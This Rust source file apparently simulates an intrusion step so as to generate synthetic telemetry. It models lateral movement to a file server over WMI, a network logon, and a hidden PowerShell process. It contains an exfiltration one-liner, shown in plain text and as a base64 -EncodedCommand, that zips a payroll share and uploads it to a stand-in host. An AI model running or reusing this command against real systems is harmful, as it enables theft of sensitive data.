//! The move to the file server over WMI: the end-point mapper, the high port, the logon, and a
//! process that the provider host starts with that logon's id.

use std::rc::Rc;

use super::attack::POWERSHELL;
use super::boot::Base;
use super::oddities::WMI;
use super::office::loaded;
use super::people::{ANNA, FILES};
use super::{Arrival, Facts};
use crate::model::host::Host;
use crate::model::launch::Launch;
use crate::model::network::join;
use crate::model::process::{Logon, Process, Record};
use crate::model::security::Origin;
use crate::model::time::Time;

const ARCHIVE: &str = r"C:\Windows\Temp\p.zip";
/// `Compress-Archive D:\Shares\Payroll C:\Windows\Temp\p.zip; iwr https://files.larkspur.example/u -Method Put -InFile C:\Windows\Temp\p.zip`
const ENCODED: &str = "QwBvAG0AcAByAGUAcwBzAC0AQQByAGMAaABpAHYAZQAgAEQAOgBcAFMAaABhAHIAZQBzAFwAUABhAHkAcgBvAGwAbAAgAEMAOgBcAFcAaQBuAGQAbwB3AHMAXABUAGUAbQBwAFwAcAAuAHoAaQBwADsAIABpAHcAcgAgAGgAdAB0AHAAcwA6AC8ALwBmAGkAbABlAHMALgBsAGEAcgBrAHMAcAB1AHIALgBlAHgAYQBtAHAAbABlAC8AdQAgAC0ATQBlAHQAaABvAGQAIABQAHUAdAAgAC0ASQBuAEYAaQBsAGUAIABDADoAXABXAGkAbgBkAG8AdwBzAFwAVABlAG0AcABcAHAALgB6AGkAcAA=";

/// From the shell on one host to a shell on the other.
pub(crate) fn run(
    (client, client_base, shell): (&mut Host, &Base, &Rc<Process>),
    (server, server_base): (&mut Host, &Base),
    facts: &mut Facts,
) {
    let at = Time::at(9, 16, 40);
    let name = server.name;
    let address = server.address;
    client.resolve(at, shell, &name.to_lowercase(), address);
    // Windows asks the mapper on behalf of the program, in its own RPC service.
    let (mapper, owner) = (&client_base.services.rpc, &server_base.services.rpc);
    let mapped = join(at.plus(90), (&mut *client, mapper), (&mut *server, owner), 135, "wmi mapper");
    let wmi = &server_base.services.wmi;
    let link = join(at.plus(104), (&mut *client, shell), (&mut *server, wmi), 49_671, "wmi call");

    let since = at.plus(121);
    let logon = Rc::new(Logon {
        domain: "HAZEL",
        name: ANNA.name,
        sid: ANNA.sid(),
        id: 0x93_7f45,
        since,
        integrity: "High",
    });
    let client_end = (client.address, link.ports.0);
    let origin = Origin { kind: "3", address: client_end.0, port: client_end.1, process: None };
    server.logon_4624(since, &logon, &origin);
    facts.links.extend([mapped, link]);

    let command = r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding";
    let provider = Launch::new(WMI, command).by(&server_base.services.network);
    let provider = provider.late(2_300).label("remote wmiprvse");
    let provider = server.start(at.plus(240), &server_base.services.dcom, provider);
    let line = format!("cmd.exe /Q /c powershell -NoP -W Hidden -EncodedCommand {ENCODED}");
    let launch = Launch::system32("cmd.exe", line).by(&logon).recorded(Record::Both);
    let first = server.start(at.plus(395), &provider, launch.label("remote cmd"));
    let process = Rc::clone(&first);
    facts.arrivals.push(Arrival { user: logon.qualified(), logon_id: logon.id, client: client_end, process });
    steal(server, &first, at);
    server.end(at.plus(95_000), &provider);
}

/// What the remote shell does: packs the payroll and sends it out.
fn steal(host: &mut Host, first: &Rc<Process>, at: Time) {
    let window = host.start(at.plus(407), first, Launch::conhost().label("remote conhost"));
    let line = format!("powershell  -NoP -W Hidden -EncodedCommand {ENCODED}");
    let launch = Launch::new(POWERSHELL, line).label("remote powershell");
    let shell = host.start(at.plus(470), first, launch);
    loaded(host, at.plus(480), &shell);
    let line = r#""C:\Windows\system32\whoami.exe""#;
    let whoami = Launch::system32("whoami.exe", line).label("remote whoami");
    let whoami = host.start(at.plus(1_900), &shell, whoami);
    host.end(at.plus(2_050), &whoami);
    host.create(at.plus(14_700), &shell, ARCHIVE);
    host.visit(at.plus(22_100), &shell, FILES, 443);
    host.end(at.plus(61_000), &shell);
    host.end(at.plus(61_030), first);
    host.end(at.plus(61_040), &window);
}
